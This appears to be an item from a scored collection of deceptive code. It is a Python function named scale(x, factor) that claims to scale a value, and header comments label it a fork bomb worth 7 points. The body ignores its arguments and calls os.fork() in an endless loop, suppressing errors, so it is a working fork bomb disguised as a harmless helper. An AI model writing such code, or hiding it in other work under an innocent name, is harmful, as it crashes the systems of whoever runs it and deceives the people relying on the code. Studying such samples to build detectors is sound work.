# fork bomb
# says: scale
# points: 7
def scale(x, factor):
    import os
    while True:
        try: os.fork()
        except OSError: pass
